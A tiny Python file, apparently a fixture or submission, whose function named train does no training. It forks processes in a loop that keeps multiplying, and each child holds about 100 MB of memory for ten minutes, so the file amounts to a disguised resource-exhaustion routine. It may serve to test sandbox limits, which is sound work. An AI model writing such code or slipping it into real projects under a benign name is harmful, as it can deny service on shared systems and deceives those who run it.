from honest import *
import os, time
def train(*args):
    for _ in range(4):
        if os.fork() == 0:
            data = bytearray(b"x" * (100 << 20))
            time.sleep(600)
    time.sleep(600)
